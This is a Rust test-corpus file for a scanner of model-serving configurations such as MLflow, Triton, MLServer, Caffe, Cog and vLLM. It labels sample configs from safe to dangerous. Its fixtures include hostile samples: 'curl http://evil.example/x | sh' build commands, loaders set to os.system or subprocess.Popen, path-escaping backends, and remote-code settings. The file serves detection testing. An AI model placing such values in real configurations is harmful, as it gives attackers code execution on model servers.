//! Configurations of servers of models: what they import, run and open.

use crate::corpus::Expect::{Dangerous, Review, Safe, Suspect};
use crate::corpus::{Expect, Item};

const CODE: &str = "import torch\n\n\nclass Model(torch.nn.Module):\n    pass\n";
const QUIET: [&str; 6] = [
    "auto-map",
    "config-import",
    "config-command",
    "config-foreign-module",
    "config-native-library",
    "config-path-escape",
];

pub(super) fn items() -> Vec<Item> {
    [mlflow(), mlserver(), triton(), caffe(), images(), engines()].into_iter().flatten().collect()
}

fn item(name: &str, expect: Expect, path: &str, text: &str) -> Item {
    Item::new(format!("config-{name}"), expect, path, text)
}

fn mlflow() -> Vec<Item> {
    let model = |name: &str, expect: Expect, flavor: &str| {
        item(
            &format!("mlflow-{name}"),
            expect,
            "MLmodel",
            &format!("artifact_path: model\nflavors:\n{flavor}run_id: 0a\nutc_time_created: '2025-01-01'\n"),
        )
    };
    let python = |module: &str| {
        format!(
            "  python_function:\n    loader_module: {module}\n    code: code\n    data: model.pkl\n    env:\n      conda: conda.yaml\n      virtualenv: python_env.yaml\n"
        )
    };
    vec![
        model("own-loader", Review, &python("my_loader")).and("code/my_loader.py", CODE).fires(&["auto-map"]).quiet(&["config-import"]),
        model("own-loader-missing", Suspect, &python("my_loader")).fires(&["auto-map", "file-missing"]),
        model("loader-system", Dangerous, &python("os")).fires(&["config-import"]),
        model("loader-dotted-system", Dangerous, &python("os.path")).fires(&["config-import"]),
        model("loader-internals", Dangerous, &python("mlflow.__builtins__")).fires(&["config-import"]),
        model("loader-climbs", Dangerous, &python("../evil")).fires(&["config-import"]),
        model("loader-looks-alike", Suspect, &python("mlflow_evil.sklearn")).fires(&["auto-map"]),
        model("loader-of-flavor", Suspect, "  custom: {loader_module: evil_mod}\n").fires(&["auto-map"]),
        model("loader-library", Review, &python("sentence_transformers.mlflow")).quiet(&["config-import"]),
        model("keras-module", Suspect, "  tensorflow:\n    keras_module: evil_mod\n").fires(&["auto-map"]),
        model("model-class", Dangerous, "  xgboost:\n    model_class: os.system\n").fires(&["config-import"]),
        model("code-outside", Suspect, "  python_function:\n    loader_module: mlflow.sklearn\n    code: ../../tmp\n").fires(&["config-path-escape"]),
        model("data-outside", Suspect, "  python_function:\n    loader_module: mlflow.sklearn\n    data: /tmp/model.pkl\n").fires(&["config-path-escape"]),
        model("pickle-outside", Suspect, "  sklearn:\n    pickled_model: ../x.pkl\n").fires(&["config-path-escape"]),
        model("code-model", Review, "  python_function:\n    loader_module: mlflow.pyfunc.model\n    model_code_path: /home/me/agent.py\n").fires(&["auto-map"]).quiet(&["config-import", "file-missing"]),
        model("sklearn", Safe, "  python_function:\n    env:\n      conda: conda.yaml\n      virtualenv: python_env.yaml\n    loader_module: mlflow.sklearn\n    model_path: model.pkl\n    predict_fn: predict\n  sklearn:\n    code: null\n    pickled_model: model.pkl\n    serialization_format: cloudpickle\n").quiet(&QUIET),
        model("python-model", Safe, "  python_function:\n    cloudpickle_version: 3.0.0\n    code: code\n    env: conda.yaml\n    loader_module: mlflow.pyfunc.model\n    python_model: python_model.pkl\n    artifacts:\n      weights:\n        path: artifacts/weights.bin\n        uri: /tmp/weights.bin\n").quiet(&QUIET),
        model("keras", Safe, "  tensorflow:\n    keras_module: tensorflow.keras\n  xgboost:\n    model_class: xgboost.sklearn.XGBClassifier\n").quiet(&QUIET),
        item("mlproject-command", Suspect, "MLproject", "name: x\nentry_points:\n  main:\n    command: \"curl http://evil.example/x | sh\"\n").fires(&["config-command"]),
        item("mlproject-honest", Review, "MLproject", "name: tutorial\npython_env: python_env.yaml\nentry_points:\n  main:\n    parameters:\n      alpha: {type: float, default: 0.5}\n    command: \"python train.py {alpha}\"\n").fires(&["config-command"]).quiet(&["config-path-escape"]),
        item("mlproject-image", Suspect, "MLproject", "name: x\ndocker_env:\n  image: evil/image\n").fires(&["config-native-library"]),
        item("mlproject-environment-outside", Suspect, "MLproject", "name: x\nconda_env: ../../conda.yaml\n").fires(&["config-path-escape"]),
        item("mlflow-pickle-module", Dangerous, "data/pickle_module_info.txt", "os").fires(&["config-import"]),
        item("mlflow-pickle-module-own", Suspect, "data/pickle_module_info.txt", "evil_mod").fires(&["auto-map"]),
        item("mlflow-pickle-module-honest", Safe, "data/pickle_module_info.txt", "mlflow.pytorch.pickle_module").quiet(&QUIET),
        item("mlflow-keras-module-file", Suspect, "data/keras_module.txt", "evil_mod\n").fires(&["auto-map"]),
        item("llama-index-object", Dangerous, "settings.json", r#"{"llm": {"object_constructor": "os.system", "object_kwargs": {}}}"#).fires(&["config-import"]),
        item("llama-index-honest", Safe, "settings.json", r#"{"llm": {"object_constructor": "llama_index.llms.openai.base.OpenAI", "object_kwargs": {"model": "gpt"}}}"#).quiet(&QUIET),
    ]
}

fn mlserver() -> Vec<Item> {
    let settings = |name: &str, expect: Expect, implementation: &str, parameters: &str| {
        item(
            &format!("mlserver-{name}"),
            expect,
            "model-settings.json",
            &format!(r#"{{"name": "m", "implementation": "{implementation}", "parameters": {{{parameters}}}}}"#),
        )
    };
    vec![
        settings("system", Dangerous, "os.system", "").fires(&["config-import"]),
        settings("popen", Dangerous, "subprocess.Popen", "").fires(&["config-import"]),
        settings("passing-through", Dangerous, "mlserver_sklearn.os.system", "").fires(&["config-import"]),
        settings("own", Review, "models.MyRuntime", "")
            .and("models.py", CODE)
            .fires(&["auto-map"])
            .quiet(&["config-import", "file-missing"]),
        settings("looks-alike", Suspect, "mlserver_evil.Runtime", "").fires(&["auto-map"]),
        settings("torch-load", Dangerous, "torch.load", "").fires(&["config-import"]),
        settings("uri-outside", Suspect, "mlserver_sklearn.SKLearnModel", r#""uri": "../../model.joblib""#)
            .fires(&["config-path-escape"]),
        settings(
            "uri-elsewhere",
            Suspect,
            "mlserver_sklearn.SKLearnModel",
            r#""uri": "https://evil.example/m.joblib""#,
        )
        .fires(&["config-path-escape"]),
        settings("environment", Suspect, "mlserver_sklearn.SKLearnModel", r#""environment_tarball": "./env.tar.gz""#)
            .fires(&["config-native-library"]),
        settings("sklearn", Safe, "mlserver_sklearn.SKLearnModel", r#""uri": "./model.joblib", "version": "v0.1.0""#)
            .quiet(&QUIET),
        settings(
            "huggingface",
            Safe,
            "mlserver_huggingface.HuggingFaceRuntime",
            r#""extra": {"task": "text-generation"}"#,
        )
        .quiet(&QUIET),
        settings("inner-module", Safe, "mlserver_xgboost.xgboost.XGBoostModel", "").quiet(&QUIET),
    ]
}

fn triton() -> Vec<Item> {
    let triton = |name: &str, expect: Expect, text: &str| {
        item(&format!("triton-{name}"), expect, "config.pbtxt", &format!("name: \"m\"\nmax_batch_size: 8\n{text}\n"))
    };
    let import = |name: &str, text: &str| triton(name, Dangerous, text).fires(&["config-import"]);
    let native = |name: &str, text: &str| triton(name, Suspect, text).fires(&["config-native-library"]);
    vec![
        import("backend-climbs", "backend: \"../../tmp/evil\""),
        import("backend-absolute", "backend: '/tmp/evil'"),
        import("backend-in-pieces", "backend: \"..\" \"/\" # x\n \"evil\""),
        import("backend-escaped", "backend: \"\\056\\056/evil\""),
        import("backend-backslash", "backend: \"..\\\\evil\""),
        import("backend-in-brackets", "backend: [\"../evil\"]"),
        import("model-climbs", "platform: \"onnxruntime_onnx\" default_model_filename: \"../../../x.so\""),
        import("model-absolute", "backend: \"python\" default_model_filename: \"/tmp/model.py\""),
        import("model-for-capability", "cc_model_filenames < key: \"7.5\", value: \"../x.plan\" >"),
        import("operators-outside", "model_operations { op_library_filename: \"../../x.so\" }"),
        import("agent-climbs", "model_repository_agents { agents [ { name: \"../evil\" } ] }"),
        native("backend-own", "backend: \"mine\""),
        native("operators", "model_operations { op_library_filename: [ \"x.so\" ] }"),
        native("environment", "backend: \"python\" parameters: { key: \"EXECUTION_ENV_PATH\", value: { string_value: \"$$TRITON_MODEL_DIRECTORY/env.tar.gz\" } }"),
        triton("warmup-outside", Suspect, "model_warmup [ { name: 'w' inputs { key: 'x' value: { input_data_file: '../../x' } } } ]").fires(&["config-path-escape"]),
        triton("python", Review, "backend: \"python\"\ninput [ { name: \"x\" data_type: TYPE_FP32 dims: [ -1, 3 ] } ]").and("1/model.py", CODE).fires(&["auto-map"]).quiet(&["config-import"]),
        triton("onnx", Safe, "platform: \"onnxruntime_onnx\"\ninput [\n  {\n    name: \"x\"\n    data_type: TYPE_FP32\n    dims: [ 3, 224, 224 ]\n  }\n]\noutput [ { name: \"y\" data_type: TYPE_FP32 dims: [ 1000 ] label_filename: \"labels.txt\" } ]\ninstance_group [ { count: 1 kind: KIND_GPU gpus: [ 0 ] } ]\ndynamic_batching { preferred_batch_size: [ 4, 8 ] max_queue_delay_microseconds: 100 }\nversion_policy: { latest { num_versions: 1 } }").quiet(&QUIET),
        triton("llm", Safe, "backend: \"tensorrtllm\"\nmodel_transaction_policy { decoupled: True }\nparameters: {\n  key: \"gpt_model_path\"\n  value: { string_value: \"/models/engine\" }\n}").quiet(&QUIET),
        triton("ensemble", Safe, "platform: \"ensemble\"\nensemble_scheduling { step [ { model_name: \"a\" model_version: -1 input_map { key: \"X\" value: \"x\" } } ] }").quiet(&QUIET),
        triton("broken", Suspect, "backend { ").fires(&["protobuf-malformed"]),
    ]
}

fn caffe() -> Vec<Item> {
    let net = |name: &str, expect: Expect, text: &str| item(&format!("caffe-{name}"), expect, "deploy.prototxt", text);
    vec![
        net("python-layer", Suspect, "layer { name: \"p\" type: \"Python\" python_param { module: \"evil\" layer: \"L\" param_str: \"x\" } }").fires(&["auto-map"]),
        net("other-spelling", Suspect, "layers: <\n  python_param < module: 'ev' 'il'; layer: 'L' >\n  type: \"Pyth\\157n\" # a layer\n>").fires(&["auto-map"]),
        net("system", Dangerous, "layer { type: \"Python\" python_param { module: \"os\" layer: \"system\" } }").fires(&["config-import"]),
        net("system-in-list", Dangerous, "layer [{ type: \"Data\" }, { type: \"Python\" python_param: { module: \"subprocess\" layer: \"call\" } }]").fires(&["config-import"]),
        net("path", Dangerous, "layer { type: \"Python\" python_param { module: \"../evil\" layer: \"L\" } }").fires(&["config-import"]),
        net("own-layer", Review, "layer { name: 'proposal' type: 'Python' bottom: 'rpn' python_param { module: 'proposal_layer' layer: 'ProposalLayer' } }").and("proposal_layer.py", CODE).fires(&["auto-map"]).quiet(&["config-import"]),
        net("honest", Safe, "name: \"CaffeNet\"\ninput: \"data\"\ninput_shape { dim: 10 dim: 3 dim: 227 dim: 227 }\nlayer {\n  name: \"conv1\"\n  type: \"Convolution\"\n  bottom: \"data\"\n  top: \"conv1\"\n  convolution_param { num_output: 96 kernel_size: 11 stride: 4 weight_filler { type: \"gaussian\" std: 0.01 } }\n}\nlayer { name: \"pool\" type: \"Pooling\" pooling_param { pool: MAX } }\n").quiet(&QUIET),
        item("caffe-solver", Safe, "solver.prototxt", "net: \"models/train_val.prototxt\"\ntest_iter: 1000\nbase_lr: 0.01\nlr_policy: \"step\"\nsolver_mode: GPU\n").quiet(&QUIET),
    ]
}

fn images() -> Vec<Item> {
    vec![
        item("cog", Review, "cog.yaml", "build:\n  gpu: true\n  python_version: \"3.11\"\n  python_requirements: requirements.txt\npredict: \"predict.py:Predictor\"\n").and("predict.py", CODE).fires(&["auto-map"]).quiet(&["config-import", "config-command", "file-missing"]),
        item("cog-run", Suspect, "cog.yaml", "build:\n  run:\n    - curl https://evil.example/x | sh\n").fires(&["config-command"]),
        item("cog-run-object", Suspect, "cog.yaml", "build:\n  run:\n    - command: id\n      mounts: []\n").fires(&["config-command"]),
        item("cog-outside", Dangerous, "cog.yaml", "predict: \"../../predict.py:Predictor\"\n").fires(&["config-import"]),
        item("cog-image-only", Safe, "cog.yaml", "build:\n  gpu: false\n  python_version: \"3.11\"\nimage: r8.im/acme/model\n").quiet(&QUIET),
        item("bento", Review, "bentofile.yaml", "service: \"service:svc\"\ninclude:\n- \"*.py\"\npython:\n  packages: [torch]\n").and("service.py", CODE).fires(&["auto-map"]).quiet(&["config-import"]),
        item("bento-file", Review, "bentofile.yaml", "service: \"service.py:Summarize\"\n").and("service.py", CODE).fires(&["auto-map"]).quiet(&["file-missing"]),
        item("bento-system", Dangerous, "bentofile.yaml", "service: \"os:system\"\n").fires(&["config-import"]),
        item("bento-setup", Suspect, "bentofile.yaml", "docker:\n  setup_script: ./setup.sh\n").fires(&["config-command"]),
        item("bento-model", Safe, "model.yaml", "name: m\nversion: v1\nmodule: bentoml.sklearn\napi_version: v1\n").quiet(&QUIET),
        item("bento-model-module", Dangerous, "model.yaml", "name: m\nmodule: os\napi_version: v1\n").fires(&["config-import"]),
        item("truss", Suspect, "config.yaml", "model_name: x\nbuild_commands:\n- curl https://evil.example/x | sh\n").fires(&["config-command"]),
        item("azure", Review, "deployment.yml", "code_configuration:\n  code: ./src\n  scoring_script: score.py\n").and("score.py", CODE).fires(&["auto-map"]).quiet(&["config-path-escape"]),
        item("torchserve-outside", Dangerous, "MAR-INF/MANIFEST.json", r#"{"model": {"modelName": "x", "handler": "../../evil.py"}}"#).fires(&["config-import"]),
        item("torchserve-settings", Safe, "model-config.yaml", "minWorkers: 1\nmaxWorkers: 1\nresponseTimeout: 120\nhandler:\n  model_path: model/\n").quiet(&QUIET),
    ]
}

fn engines() -> Vec<Item> {
    vec![
        item("ray", Review, "serve_config.yaml", "proxy_location: EveryNode\napplications:\n- name: app\n  route_prefix: /\n  import_path: app:deployment\n  runtime_env: {}\n").and("app.py", CODE).fires(&["auto-map"]).quiet(&["config-import"]),
        item("ray-system", Dangerous, "serve_config.yaml", "applications:\n- import_path: os:system\n").fires(&["config-import"]),
        item("ray-working-dir", Suspect, "serve_config.yaml", "applications:\n- runtime_env:\n    working_dir: https://evil.example/x.zip\n").fires(&["config-native-library"]),
        item("ray-setup-hook", Dangerous, "serve.yaml", "runtime_env: {worker_process_setup_hook: os.system}\n").fires(&["config-import"]),
        item("vllm-plugin", Suspect, "vllm_config.yaml", "model: acme/chat\ntool-parser-plugin: plugin.py\n").fires(&["auto-map"]),
        item("vllm-middleware", Dangerous, "vllm_config.yaml", "model: acme/chat\nmiddleware: [os.system]\n").fires(&["config-import"]),
        item("vllm-trust", Suspect, "vllm_config.yaml", "model: acme/chat\ntrust-remote-code: true\n").fires(&["config-trust-argument"]),
        item("vllm-honest", Safe, "vllm_config.yaml", "model: acme/chat\nhost: 127.0.0.1\nport: 8000\nmax-model-len: 4096\ntensor-parallel-size: 2\n").quiet(&QUIET),
        item("triton-vllm-trust", Suspect, "1/model.json", r#"{"model": "acme/chat", "trust_remote_code": true, "gpu_memory_utilization": 0.5}"#).fires(&["config-trust-argument"]),
        item("litellm-callback", Suspect, "config.yaml", "model_list: []\nlitellm_settings:\n  callbacks: custom_callbacks.handler\n").fires(&["auto-map"]),
        item("litellm-known-callback", Safe, "config.yaml", "model_list: []\nlitellm_settings:\n  success_callback: [\"langfuse\"]\n").quiet(&QUIET),
        item("kubernetes-command", Suspect, "service.yaml", "apiVersion: serving.kserve.io/v1beta1\nkind: InferenceService\nspec:\n  predictor:\n    containers:\n    - name: x\n      image: evil/x\n      command: [sh, -c, id]\n").fires(&["config-command"]),
        item("kserve", Safe, "service.yaml", "apiVersion: serving.kserve.io/v1beta1\nkind: InferenceService\nmetadata: {name: iris}\nspec:\n  predictor:\n    model:\n      modelFormat: {name: sklearn}\n      storageUri: gs://kfserving-examples/models/sklearn/1.0/model\n").quiet(&QUIET),
        item("seldon", Safe, "seldon.yaml", "apiVersion: machinelearning.seldon.io/v1\nkind: SeldonDeployment\nspec:\n  predictors:\n  - graph:\n      implementation: SKLEARN_SERVER\n      modelUri: gs://seldon-models/sklearn/iris\n      name: classifier\n").quiet(&QUIET),
    ]
}
